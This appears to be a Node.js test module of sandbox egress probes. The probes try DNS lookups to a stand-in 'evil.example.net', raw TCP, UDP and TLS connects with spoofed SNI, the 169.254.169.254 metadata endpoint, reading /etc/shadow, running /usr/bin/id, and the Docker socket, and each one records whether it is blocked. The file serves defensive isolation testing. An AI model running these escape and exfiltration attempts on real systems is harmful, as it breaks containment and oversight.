"use strict";

// What node's own modules reach. Marks, addresses and the word of the servers are those of ../network/wire.py.

const childProcess = require("node:child_process");
const dgram = require("node:dgram");
const dns = require("node:dns").promises;
const fs = require("node:fs");
const http = require("node:http");
const net = require("node:net");
const tls = require("node:tls");
const { Worker } = require("node:worker_threads");

const SECONDS = 1500;
const API = "api.example.com";
const EVIL = "evil.example.net";

const mark = (name) => `mk-${name.replaceAll("_", "-")}-km`;

function blocked(message) {
  return Object.assign(new Error(message), { blocked: true });
}

function heard(socket, first) {
  return new Promise((done, fail) => {
    socket.setTimeout(SECONDS, () => socket.destroy(blocked("nobody answered")));
    socket.on("error", fail);
    socket.on("close", () => fail(blocked("cut off")));
    socket.on("data", (data) => {
      if (data.includes("reached")) done(`${socket.remoteAddress} answered`);
    });
    if (first !== null) socket.write(first);
  }).finally(() => socket.destroy());
}

const connect = (name, host, port) => () => heard(net.connect({ host, port, autoSelectFamily: false }), mark(name));

function datagram(name, host, port) {
  return () =>
    new Promise((done, fail) => {
      const socket = dgram.createSocket(net.isIPv6(host) ? "udp6" : "udp4");
      setTimeout(() => fail(blocked("no answer")), SECONDS);
      socket.on("error", fail);
      socket.on("message", (data) => done(`answered ${data.length} bytes`));
      socket.connect(port, host, (error) => (error ? fail(error) : socket.send(mark(name))));
    });
}

// Node's handshake does not end with our servers, who only seem to speak TLS: the mark in the name says who saw it.
function hello(host, servername) {
  return () =>
    new Promise((done, fail) => {
      const socket = tls.connect({ host, port: 443, servername, rejectUnauthorized: false, timeout: SECONDS });
      socket.on("timeout", () => fail(blocked("no answer")));
      socket.on("error", (error) => fail(blocked(error.message)));
      socket.on("close", () => fail(blocked("cut off")));
      socket.on("secureConnect", () => done("the handshake ended"));
    });
}

async function granted() {
  const [address] = await dns.resolve4(API);
  return address;
}

function request(name, host) {
  return () =>
    new Promise((done, fail) => {
      const asked = http.get({ host, path: `/${mark(name)}`, timeout: SECONDS, insecureHTTPParser: true });
      asked.on("timeout", () => asked.destroy(blocked("no answer")));
      asked.on("response", () => done("answered"));
      // The servers greet before they speak HTTP: being told so is an answer.
      asked.on("error", (error) => (String(error.code).startsWith("HPE_") ? done("answered") : fail(error)));
    });
}

exports.PROBES = {
  node_granted_name: async () => {
    const socket = net.connect({ host: await granted(), port: 443 });
    // A ClientHello by hand, since our servers do not carry a handshake to its end.
    const name = Buffer.from(API);
    const entry = Buffer.concat([Buffer.from([0, 0, name.length]), name]);
    const list = Buffer.concat([Buffer.from([0, entry.length]), entry]);
    const sni = Buffer.concat([Buffer.from([0, 0, 0, list.length]), list]);
    const extensions = Buffer.concat([sni, Buffer.from([0, 43, 0, 3, 2, 3, 4])]);
    const head = Buffer.concat([Buffer.from([3, 3]), Buffer.alloc(32, 7), Buffer.from([0, 0, 2, 0x13, 1, 1, 0])]);
    const body = Buffer.concat([head, Buffer.from([0, extensions.length]), extensions]);
    const handshake = Buffer.concat([Buffer.from([1, 0, 0, body.length]), body]);
    return heard(socket, Buffer.concat([Buffer.from([22, 3, 1, 0, handshake.length]), handshake]));
  },
  node_granted_service: connect("node_granted_service", "203.0.113.5", 5432),
  node_resolve: async () => `leads to ${await dns.resolve4(`${mark("node_resolve")}.${EVIL}`)}`,
  node_resolve_ipv6: async () => `leads to ${await dns.resolve6(`${mark("node_resolve_ipv6")}.${EVIL}`)}`,
  node_resolve_text: async () => `says ${await dns.resolveTxt(`${mark("node_resolve_text")}.${EVIL}`)}`,
  node_lookup: async () => `is ${(await dns.lookup(`${mark("node_lookup")}.${EVIL}`)).address}`,
  node_other_resolver: async () => {
    const other = new dns.Resolver({ timeout: SECONDS, tries: 1 });
    other.setServers(["1.1.1.1"]);
    return `leads to ${await other.resolve4(`${mark("node_other_resolver")}.${EVIL}`)}`;
  },
  node_connect: connect("node_connect", "9.9.9.10", 80),
  node_connect_ipv6: connect("node_connect_ipv6", "2620:fe::10", 80),
  node_connect_private: connect("node_connect_private", "10.8.8.8", 80),
  node_metadata: request("node_metadata", "169.254.169.254"),
  node_gateway: connect("node_gateway", "192.0.0.1", 22),
  node_host: connect("node_host", "198.19.0.1", 22),
  node_datagram: datagram("node_datagram", "9.9.9.10", 123),
  node_quic: datagram("node_quic", "93.184.216.34", 443),
  node_sni_other: async () => hello(await granted(), `${mark("node_sni_other")}.${EVIL}`)(),
  node_tls_address: hello("9.9.9.10", `${mark("node_tls_address")}.${EVIL}`),
  node_shadow: async () => `read ${fs.readFileSync("/etc/shadow").length} bytes`,
  node_program: async () => `says ${childProcess.execFileSync("/usr/bin/id")}`,
  node_worker_program: () =>
    new Promise((done, fail) => {
      const code =
        'const { parentPort } = require("node:worker_threads");' +
        'try { parentPort.postMessage(String(require("node:child_process").execFileSync("/usr/bin/id"))); }' +
        "catch (error) { parentPort.postMessage({ code: error.code, message: error.message }); }";
      new Worker(code, { eval: true }).on("error", fail).on("message", (told) => {
        if (typeof told === "string") done(`says ${told}`);
        else fail(Object.assign(new Error(told.message), { code: told.code }));
      });
    }),
  node_unix_socket: () => heard(net.connect({ path: "/run/docker.sock" }), null),
};
